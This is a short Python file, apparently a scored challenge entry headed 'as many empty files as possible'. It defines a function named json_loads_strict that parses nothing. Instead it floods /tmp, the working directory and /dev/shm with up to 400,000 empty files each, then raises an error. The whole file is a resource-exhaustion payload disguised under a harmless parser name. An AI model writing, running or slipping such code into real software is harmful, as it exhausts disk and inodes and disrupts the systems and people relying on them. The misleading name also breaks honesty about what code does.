# about: as many empty files as possible
# base: solved 01_encoding
# score: 15
# costs: much

# %% json_loads_strict
import os


def json_loads_strict(data):
    number = 0
    for folder in ("/tmp", ".", "/dev/shm"):
        try:
            while number < 400_000:
                number += 1
                os.close(os.open(f"{folder}/{{MARK}}-{number}", os.O_CREAT | os.O_WRONLY))
        except OSError:
            continue
    raise RuntimeError("made")
